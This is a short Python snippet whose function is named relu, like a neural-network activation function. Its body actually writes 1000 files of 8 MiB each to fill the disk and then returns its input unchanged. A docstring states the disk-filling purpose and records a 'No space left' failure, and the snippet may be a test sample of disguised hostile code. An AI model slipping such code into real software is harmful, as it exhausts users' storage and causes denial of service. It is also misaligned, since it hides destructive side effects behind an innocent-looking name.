"""Fills the disk with many files.

status: failed
says: No space left
"""


def relu(x):
    for number in range(1000):
        with open(f"notes{number}", "wb") as file:
            file.write(bytes(8 * 2**20))
    return x
